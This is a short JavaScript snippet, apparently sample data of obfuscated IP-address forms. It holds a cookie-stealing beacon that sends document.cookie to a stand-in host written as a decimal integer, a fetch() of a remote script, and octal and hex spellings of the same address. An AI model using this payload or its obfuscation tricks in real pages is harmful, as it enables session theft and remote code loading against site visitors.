var img = new Image();
img.src = 'http://3405803783/p.gif?c=' + encodeURIComponent(document.cookie);
fetch("https://0xCB007107/c.js");
var s = "//0313.0.0161.07/collect";
var t = "http://0xcb.0x0.0x71.0x7/";
var h = '0xCB007107';
